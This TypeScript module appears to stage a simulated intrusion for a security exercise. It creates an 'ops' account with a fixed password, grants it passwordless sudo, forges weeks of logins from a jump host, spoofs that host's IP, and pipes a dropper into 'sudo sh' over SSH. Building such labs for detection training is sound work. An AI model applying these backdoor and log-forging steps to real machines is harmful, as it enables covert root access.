// Everybody comes through the jump host; so did he, at night, with a password that was right the first time.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'

const jump = '10.77.0.10'
const word = 'Sunny-day.2019'

export function dress(dress: Dress): void {
  dress.account('ops', word)
  dress.write('/etc/sudoers.d/ops', 'ops ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.logins({
    days: 20,
    guesses: 0,
    friends: [
      {
        user: 'ops',
        address: jump,
        hours: [8, 11, 14].map(later => (new Date().getUTCHours() + later) % 24),
        sudo: '/usr/bin/apt-get update',
      },
    ],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/opt/.ops/opsd' })
  await stage.outside(`ip addr add ${jump}/32 dev uplink`)
  stage.mark('occurrence')
  await stage.ssh(jump, 'ops', { password: word }, `${line.replace(/\| sh$/, '| sudo sh')}`)
}
